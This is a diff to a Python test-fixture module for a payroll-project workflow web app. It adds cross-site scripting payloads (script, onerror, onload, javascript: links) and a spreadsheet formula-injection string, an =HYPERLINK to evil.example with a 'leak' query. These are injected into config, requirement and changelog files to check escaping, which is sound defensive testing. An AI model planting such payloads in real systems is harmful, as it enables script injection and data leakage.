@@ -6,6 +6,7 @@ and the traceability hold ``<script>…</script>``.
 
 from __future__ import annotations
 
+import json
 from collections.abc import Sequence
 from datetime import UTC, datetime, timedelta
 from pathlib import Path
@@ -19,6 +20,13 @@ from amoa_workflow.settings.project import load_settings
 from amoa_workflow.web.links import LinkSigner
 
 HOSTILE = "<script>alert(1)</script>"
+MARK = "amoa-pwned"  # what a script that ran would leave: the page's title, an attribute, a global
+_RUN = f"document.title='{MARK}';document.documentElement.dataset.pwned=1"
+PAYLOAD = (
+    f'<script>{_RUN}</script><img src=x onerror="{_RUN}"><svg onload="{_RUN}"></svg>'
+    f'[clic](javascript:{_RUN}) <a href="javascript:{_RUN}">lien</a> <!-- x --> **gras** http://evil.example/'
+)
+FORMULA = '=HYPERLINK("http://evil.example/?leak","clic")'  # a spreadsheet cell that would be a formula
 SECRET = "test-secret-0123456789-abcdefghijklmnop"
 ENVIRON = {"AMOA_WEB_SECRET": SECRET, "AMOA_WEB_URL": "http://testserver"}
 APPROVERS = """
@@ -55,8 +63,43 @@ RESULTS = (
 )
 
 
+def make_hostile(project: Path) -> None:
+    """The payloads in every field people write in the sample's files: the project's name, a
+    requirement's title (starting as a formula), a release note item."""
+    config = project / "config" / "amoa.toml"
+    text = config.read_text(encoding="utf-8")
+    config.write_text(
+        text.replace('name = "Remplacement du logiciel de paie"', f"name = {json.dumps('Paie ' + PAYLOAD)}"),
+        encoding="utf-8",
+    )
+    requirements = project / "requirements" / "exigences.yaml"
+    text = requirements.read_text(encoding="utf-8")
+    title = json.dumps(f"{FORMULA} Salaire net {PAYLOAD}")
+    requirements.write_text(
+        text.replace("titre: Calcul du salaire net à partir du brut", f"titre: {title}"), encoding="utf-8"
+    )
+    notes = project / "release_notes" / "CHANGELOG.md"
+    text = notes.read_text(encoding="utf-8")
+    text = text.replace("Bulletin de paie dématérialisé,", f"Bulletin {PAYLOAD} dématérialisé,")
+    text = text.replace("Documentation de l'API enrichie", f"Documentation {PAYLOAD} de l'API enrichie")
+    notes.write_text(text, encoding="utf-8")
+
+
+def hostile_results() -> tuple[ScenarioResult, ...]:
+    """The sample's made-up results, a scenario named with the payload and another as a formula."""
+    return (
+        result("features/paie.feature::bulletin", FORMULA, Status.PASSED, ["EXG-001"]),
+        result("features/paie.feature::hostile", PAYLOAD, Status.FAILED, ["EXG-002"]),
+        result("features/paie.feature::heures", "Heures supplémentaires", Status.FAILED, ["EXG-004"]),
+    )
+
+
 def prepared(
-    project: Path, database_url: str, announce: bool = False, approvers: str = APPROVERS
+    project: Path,
+    database_url: str,
+    announce: bool = False,
+    approvers: str = APPROVERS,
+    results: Sequence[ScenarioResult] = RESULTS,
 ) -> Application:
     """The project bootstrapped, release 1.1.0 recorded and its gate ``vabf`` opened.
 
@@ -68,12 +111,20 @@ def prepared(
     key = services.campaign_key("recette", "1.1.0")
     services.ingest(app.uow(), app.sources, "1.1.0")
     outcome = services.record_campaign(
-        app.uow(), "Paie", "recette", "1.1.0", key, RESULTS, "runs/x", rules=app.settings.rules
+        app.uow(),
+        app.settings.project_name,
+        "recette",
+        "1.1.0",
+        key,
+        results,
+        "runs/x",
+        rules=app.settings.rules,
     )
     sent: list[Event] = []
     notify = app.announcer(app.notifications()) if announce else sent.extend
-    approvals.open_gates(app.uow(), app.gates(), "recette", "1.1.0", outcome.gaps, "no_go",
-                         services.utc_now, notify, "test")  # fmt: skip
+    approvals.open_gates(
+        app.uow(), app.gates(), "recette", "1.1.0", outcome.gaps, "no_go", services.utc_now, notify, "test"
+    )
     return app
 
 
@@ -85,4 +136,15 @@ def token(approver: str = "dupont", gate: str = "vabf", release: str = "1.1.0", 
     return signer().issue(approver, release, gate, datetime.now(UTC), timedelta(hours=hours))[0]
 
 
-__all__ = ["ENVIRON", "HOSTILE", "prepared", "signer", "token", "web_app"]
+__all__ = [
+    "ENVIRON",
+    "FORMULA",
+    "HOSTILE",
+    "MARK",
+    "PAYLOAD",
+    "make_hostile",
+    "prepared",
+    "signer",
+    "token",
+    "web_app",
+]
